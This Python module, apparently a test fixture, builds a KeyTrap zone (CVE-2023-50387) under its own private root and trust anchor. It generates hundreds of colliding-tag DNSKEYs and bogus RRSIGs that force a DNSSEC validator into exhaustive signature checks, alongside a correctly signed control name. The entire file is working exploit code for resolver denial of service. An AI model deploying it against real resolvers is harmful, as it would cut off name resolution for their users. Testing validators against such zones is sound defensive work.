# SPDX-License-Identifier: ISC
"""A zone that costs its validator as much as it lets it (KeyTrap, CVE-2023-50387): many keys of one
tag and many signatures that all of them must be tried on, in a private root of its own."""
import base64
import hashlib
import secrets
import struct
import time

from dns import MX, mx_record, record

DNSKEY, RRSIG = 48, 46
SHA256_PREFIX = bytes.fromhex("3031300d060960864801650304020105000420")
EXPONENT = 65537
BITS = 1024


def is_prime(n):
    if any(n % p == 0 for p in (3, 5, 7, 11, 13, 17, 19, 23, 29, 31)):
        return False
    d, s = n - 1, 0
    while d % 2 == 0:
        d, s = d // 2, s + 1
    for _ in range(20):
        x = pow(secrets.randbelow(n - 3) + 2, d, n)
        if x in (1, n - 1):
            continue
        for _ in range(s - 1):
            x = x * x % n
            if x == n - 1:
                break
        else:
            return False
    return True


def prime(bits):
    while True:
        n = secrets.randbits(bits) | 3 << (bits - 2) | 1
        if n % EXPONENT != 1 and is_prime(n):
            return n


def key_data(modulus):
    return struct.pack("!HBB", 257, 3, 8) + b"\3" + EXPONENT.to_bytes(3, "big") + modulus


def tag_of(data):
    total = sum(byte if i & 1 else byte << 8 for i, byte in enumerate(data))
    return (total + (total >> 16)) & 0xffff


def key_with_tag(tag):
    """A key that nobody can sign with."""
    while True:
        modulus = bytearray(secrets.token_bytes(BITS // 8))
        modulus[0] |= 0x80
        modulus[-1] |= 1
        modulus[2:4] = b"\0\0"
        wanted = (tag - tag_of(key_data(modulus))) % 0xffff
        for value in (wanted, wanted - 1, wanted + 1):
            modulus[2:4] = struct.pack("!H", value % 0x10000)
            if tag_of(key_data(modulus)) == tag:
                return key_data(modulus)


class KeyTrap:
    """`answer` is for a Responder, `anchor` the trust anchor's text; the MX of "trap" is the trap,
    that of "good" validates."""

    def __init__(self, keys=380, signatures=340):
        p, q = prime(BITS // 2), prime(BITS // 2)
        self.modulus = p * q
        self.secret = pow(EXPONENT, -1, (p - 1) * (q - 1))
        own = key_data(self.modulus.to_bytes(BITS // 8, "big"))
        self.tag = tag_of(own)
        self.anchor = ". IN DNSKEY 257 3 8 " + base64.b64encode(own[4:]).decode() + "\n"
        data = [own] + [key_with_tag(self.tag) for _ in range(keys)]
        self.keys = [record("", DNSKEY, d) for d in data] + [self.sign("", DNSKEY, data)]
        exchanger = struct.pack("!H", 1) + b"\2mx\0"
        self.trap = [mx_record("trap", 1, "mx")] + [
            record("trap", RRSIG, self.head("trap", MX) + secrets.token_bytes(BITS // 8))
            for _ in range(signatures)]
        self.good = [mx_record("good", 1, "mx"), self.sign("good", MX, [exchanger])]

    def head(self, owner, kind):
        now = int(time.time())
        return struct.pack("!HBBIIIH", kind, 8, 1 if owner else 0, 600, now + 86400, now - 86400,
                           self.tag) + b"\0"

    def sign(self, owner, kind, data):
        head = self.head(owner, kind)
        signed = head + b"".join(record(owner, kind, d) for d in sorted(data))
        digest = SHA256_PREFIX + hashlib.sha256(signed).digest()
        padded = b"\0\1" + b"\xff" * (BITS // 8 - 3 - len(digest)) + b"\0" + digest
        value = pow(int.from_bytes(padded, "big"), self.secret, self.modulus)
        return record(owner, RRSIG, head + value.to_bytes(BITS // 8, "big"))

    def answer(self, question):
        records = {("", DNSKEY): self.keys, ("trap", MX): self.trap, ("good", MX): self.good}.get(
            (question.name, question.type))
        if records is None:
            return question.reply(rcode=3)
        return question.reply(records) if question.over_tcp else question.reply(flags=0x8780)
